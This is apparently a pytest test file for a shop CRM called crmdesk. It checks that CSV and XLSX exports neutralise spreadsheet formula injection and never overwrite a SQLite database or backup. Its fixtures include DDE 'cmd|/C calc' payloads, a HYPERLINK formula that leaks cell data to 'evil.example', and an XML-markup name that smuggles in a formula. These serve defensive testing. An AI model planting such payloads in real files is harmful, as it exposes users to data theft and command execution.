"""Files that cannot bite (issue 15): every file crmdesk writes for a person to open is formula-safe, no writer
replaces a database, and a campaign is recorded only when its recipient file is written."""

import csv
import sqlite3
from datetime import datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from crmdesk.errors import CrmError
from crmdesk.models import Campaign
from crmdesk.services import campaigns, exporting, privacy, purchases
from crmdesk.services import customers as customers_svc
from crmdesk.store import backups
from crmdesk.store.overwrite import database_problem

EVIL = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


@pytest.fixture
def evil_customer(store):
    with store.session() as session:
        cid = customers_svc.create_customer(session, {"name": EVIL[0], "phone": "010-1234-5678",
                                                      "memo": EVIL[1], "tags": EVIL[2], "address": EVIL[3],
                                                      "marketing_consent": True}).id
        purchases.create_purchase(session, purchases.PurchaseEntry(
            customer_id=cid, purchased_at=datetime.now() - timedelta(days=2),
            lines=[purchases.LineEntry(product=EVIL[4], quantity=1, unit_price=4500)]))
    return cid


def segment_of(store):
    from crmdesk.analytics.rfm import rfm_table

    return str(rfm_table(store, None)["segment"].iloc[0])


def cells(path):
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return [c for row in csv.reader(fh) for c in row]
    book = load_workbook(path)
    return [c.value for sheet in book for row in sheet.iter_rows() for c in row]


def live_formulas(values):
    return [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@")]


# --- 1. one formula-safe writer -----------------------------------------------------------------------------
def test_privacy_export_xlsx_writes_no_live_formula(store, evil_customer, tmp_path):
    path = privacy.export_customer(store, evil_customer, tmp_path / "data.xlsx")
    values = cells(path)
    assert live_formulas(values) == []
    assert "'" + EVIL[0] in values and "'" + EVIL[1] in values  # shown as typed, as text
    book = load_workbook(path)
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_export_and_out_table_goes_through_the_formula_guard(store, evil_customer, tmp_path, suffix):
    exporting.export_customers(store, tmp_path / f"c{suffix}")
    exporting.export_sales(store, str(tmp_path / f"s{suffix}"))  # a path as typed (text) is taken too
    exporting.write_table(store, tmp_path / f"t{suffix}", ["name", "note"], iter([(EVIL[0], EVIL[1])]), "Table")
    for name in ("c", "s", "t"):
        assert live_formulas(cells(tmp_path / f"{name}{suffix}")) == [], name


def test_a_name_shaped_like_spreadsheet_markup_stays_text_in_xlsx(store, tmp_path):
    """Text shaped like the sheet's own XML (<r>...</r>) is text: XlsxWriter's constant-memory mode wrote such a
    string into the sheet raw, so this name became a live HYPERLINK formula past the formula guard."""
    markup = '<r><t>a</t></r></is><f>HYPERLINK("http://evil.example","click")</f><is><r><t>b</t></r>'
    with store.session() as session:
        customers_svc.create_customer(session, {"name": markup, "phone": "010-1234-5678"})
    exporting.export_customers(store, tmp_path / "c.xlsx")
    book = load_workbook(tmp_path / "c.xlsx")
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
    assert markup in cells(tmp_path / "c.xlsx")


def test_campaign_recipient_file_is_formula_safe(store, evil_customer, tmp_path):
    outcome = campaigns.export_segment(store, segment_of(store), "sms", tmp_path / "r.csv", offer_code="=1+1")
    assert outcome.included == 1
    assert live_formulas(cells(tmp_path / "r.csv")) == []


# --- 2. never over a database --------------------------------------------------------------------------------
@pytest.mark.sqlite_only("about the SQLite file and its copies")
def test_no_export_writes_over_the_live_database_its_backups_or_another_database(store, db_path, evil_customer,
                                                                                 tmp_path):
    other = tmp_path / "other-shop.csv"  # another shop's database, whatever its name
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    conn.close()
    made = backups.backup(store)
    live_copy = db_path.read_bytes()
    writers = (lambda p: exporting.export_customers(store, p), lambda p: exporting.export_sales(store, p),
               lambda p: exporting.export_touchpoints(store, p),
               lambda p: campaigns.export_segment(store, segment_of(store), "sms", p))
    for writer in writers:
        with pytest.raises(CrmError, match="database"):
            writer(other)
        assert other.read_bytes()[:16] == b"SQLite format 3\x00"
    renamed = tmp_path / "other-shop.xlsx"  # the same database under an export's name
    other.rename(renamed)
    with pytest.raises(CrmError, match="database"):
        privacy.export_customer(store, evil_customer, renamed)
    from crmdesk.store import open_store

    odd = open_store(tmp_path / "shop.xlsx")  # a live database whose name looks like an export's
    try:
        for write in (lambda: exporting.write_table(odd, odd.path, ["a"], iter([("b",)]), "T"),
                      lambda: exporting.export_customers(odd, odd.path)):
            with pytest.raises(CrmError, match="database crmdesk is working on"):
                write()
        assert odd.path.read_bytes()[:16] == b"SQLite format 3\x00"
    finally:
        odd.close()
    assert campaign_count(store) == 0
    assert database_problem(db_path, live=db_path) is not None
    assert database_problem(db_path.with_name(db_path.name + "-wal"), live=db_path) is not None
    assert database_problem(made.parent / "export.csv", live=db_path) is not None
    assert database_problem(tmp_path / "ordinary.csv", live=db_path) is None
    assert db_path.read_bytes()[:16] == live_copy[:16]


def test_an_export_may_replace_an_ordinary_file_of_the_same_name(store, evil_customer, tmp_path):
    path = tmp_path / "customers.csv"
    path.write_text("old export", encoding="utf-8")
    assert exporting.export_customers(store, path) == 1 and "old export" not in path.read_text(encoding="utf-8-sig")


@pytest.mark.sqlite_only("about the SQLite file and its copies")
def test_backup_onto_an_existing_file_needs_force_and_never_the_live_database(store, db_path, tmp_path):
    usb = tmp_path / "usb.sqlite3"
    backups.backup(store, usb)
    with pytest.raises(CrmError, match="already exists.*--force"):
        backups.backup(store, usb)
    assert backups.backup(store, usb, force=True) == usb.resolve()
    with pytest.raises(CrmError, match="database"):
        backups.backup(store, db_path, force=True)
    made = backups.backup(store)
    with pytest.raises(CrmError, match="backups folder"):
        backups.backup(store, made, force=True)
    text = tmp_path / "notes.txt"
    text.write_text("mine", encoding="utf-8")
    with pytest.raises(CrmError, match="--force"):
        backups.backup(store, text)
    assert text.read_text(encoding="utf-8") == "mine"


# --- 3. a campaign is recorded only with its file ---------------------------------------------------------
def campaign_count(store):
    with store.session() as session:
        return session.execute(select(func.count()).select_from(Campaign)).scalar_one()


def test_a_campaign_whose_recipient_file_cannot_be_written_is_not_recorded(store, evil_customer, tmp_path,
                                                                           monkeypatch):
    busy = tmp_path / "busy.csv"
    busy.mkdir()  # stands for a file Excel holds open
    with pytest.raises(CrmError):
        campaigns.export_segment(store, segment_of(store), "sms", busy)
    with pytest.raises(CrmError):
        campaigns.export_segment(store, segment_of(store), "sms", tmp_path / "missing" / "r.csv")
    assert campaign_count(store) == 0

    def refuses(*args, **kwargs):  # the file is written, then recording fails: the file goes too
        raise RuntimeError("database is locked")

    monkeypatch.setattr(campaigns, "campaign_view", refuses)
    with pytest.raises(RuntimeError):
        campaigns.export_segment(store, segment_of(store), "sms", tmp_path / "r.csv")
    assert campaign_count(store) == 0 and not (tmp_path / "r.csv").exists()
    monkeypatch.undo()
    outcome = campaigns.export_segment(store, segment_of(store), "sms", tmp_path / "r.csv")
    assert campaign_count(store) == 1 and (tmp_path / "r.csv").exists() and outcome.campaign_id


@pytest.mark.sqlite_only("about the SQLite file and its copies")
def test_a_pdf_report_is_never_written_over_a_database(store, db_path):
    pytest.importorskip("PySide6")
    from crmdesk.reports.render import write_pdf

    with pytest.raises(CrmError, match="database"):
        write_pdf(None, db_path)  # refused before anything is laid out or written
    assert db_path.read_bytes()[:16] == b"SQLite format 3\x00"


@pytest.mark.sqlite_only("about backup files")
@pytest.mark.parametrize("folder", ["USB #1", "50% full", "what?"])
def test_a_backup_in_a_folder_named_with_hash_percent_or_question_mark_is_read_as_itself(store, tmp_path, folder):
    """Read-only opens spelt the path into an SQLite URI: "#" and "?" cut it, "%41" read as "A", so --force called
    the shop's own backup on "USB #1" another database, and a backup in "50% full" could not be checked."""
    usb = tmp_path / folder / "copy.sqlite3"
    usb.parent.mkdir()
    backups.backup(store, usb)
    assert backups.integrity_problems(usb) == []
    assert backups.backup(store, usb, force=True) == usb.resolve()


@pytest.mark.sqlite_only("about the SQLite file and another shop's file")
def test_backup_force_replaces_only_a_backup_of_the_same_shop(store, db_path, tmp_path):
    from crmdesk.store import open_store

    usb = tmp_path / "usb.sqlite3"
    backups.backup(store, usb)
    assert backups.backup(store, usb, force=True) == usb.resolve()  # an older backup of this shop: replaced
    other = tmp_path / "other-shop.sqlite3"
    shop = open_store(other)  # another shop's database, with a customer of its own
    with shop.session() as session:
        customers_svc.create_customer(session, {"name": "다른가게", "phone": "010-2222-3333"})
    shop.close()
    before = other.read_bytes()
    with pytest.raises(CrmError, match="another database, not a backup of this one"):
        backups.backup(store, other, force=True)
    assert other.read_bytes() == before
